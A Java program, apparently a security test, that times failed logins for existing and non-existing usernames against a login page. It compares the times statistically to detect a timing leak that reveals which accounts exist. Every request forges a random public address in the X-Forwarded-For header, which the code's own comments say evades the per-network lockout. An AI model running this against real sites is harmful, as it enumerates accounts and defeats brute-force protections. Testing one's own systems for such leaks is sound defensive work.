import java.net.CookieManager;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import java.util.regex.Pattern;

/**
 * Whether the time of a refusal tells that there is an account: wrong passwords for names that exist and names that do
 * not, in random order, each from a network of its own, compared by the test of Mann and Whitney.
 * Arguments: address of the page, names that exist (user1 to userN), attempts of each kind.
 */
class Hidden {
    static final Pattern CSRF = Pattern.compile("name=\"_csrf\" value=\"([^\"]*)\"");

    public static void main(String[] args) throws Exception {
        var page = URI.create(args[0]);
        int names = Integer.parseInt(args[1]);
        int attempts = Integer.parseInt(args[2]);
        if (attempts > names * 90) {
            throw new IllegalArgumentException("beyond 90 failures an account is closed to strange networks");
        }
        var random = new Random(1);
        var known = new double[attempts];
        var unknown = new double[attempts];
        int k = 0;
        int u = 0;
        for (int i = 0; i < 20; i++) {
            refusal(page, "warming-up" + i, random);
        }
        while (k + u < 2 * attempts) {
            boolean exists = u == attempts || (k < attempts && random.nextBoolean());
            int number = 1 + (exists ? k : u) % names;
            double took = refusal(page, exists ? "user" + number : "none" + number, random);
            if (exists) {
                known[k++] = took;
            } else {
                unknown[u++] = took;
            }
        }
        double wins = 0;
        for (double a : known) {
            for (double b : unknown) {
                wins += a > b ? 1 : a == b ? 0.5 : 0;
            }
        }
        double n = attempts;
        double z = (wins - n * n / 2) / Math.sqrt(n * n * (2 * n + 1) / 12);
        System.out.printf(
                "%d + %d refusals: median %.2f ms for names that exist, %.2f ms for others; a longer one is of a name that exists in %.1f %% (50 is chance), z %.2f%n",
                attempts, attempts, median(known), median(unknown), 100 * wins / n / n, z);
    }

    static double refusal(URI page, String name, Random random) throws Exception {
        // a public address each, as the proxy on this machine would hand it on
        var from = "9." + random.nextInt(256) + "." + random.nextInt(256) + "." + (1 + random.nextInt(254));
        try (var http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).cookieHandler(new CookieManager()).build()) {
            var form = http.send(HttpRequest.newBuilder(page).header("X-Forwarded-For", from).build(), HttpResponse.BodyHandlers.ofString());
            var csrf = CSRF.matcher(form.body());
            if (!csrf.find()) {
                throw new IllegalStateException("no form: " + form.statusCode());
            }
            var body = "_csrf=" + URLEncoder.encode(csrf.group(1), StandardCharsets.UTF_8) + "&username=" + name + "&password=not+the+password";
            var request = HttpRequest.newBuilder(page)
                    .header("X-Forwarded-For", from)
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString(body))
                    .build();
            long begun = System.nanoTime();
            var answer = http.send(request, HttpResponse.BodyHandlers.ofString());
            double took = (System.nanoTime() - begun) / 1e6;
            if (answer.statusCode() != 401) {
                throw new IllegalStateException(name + " from " + from + ": " + answer.statusCode());
            }
            return took;
        }
    }

    static double median(double[] values) {
        var sorted = values.clone();
        Arrays.sort(sorted);
        return sorted[sorted.length / 2];
    }
}
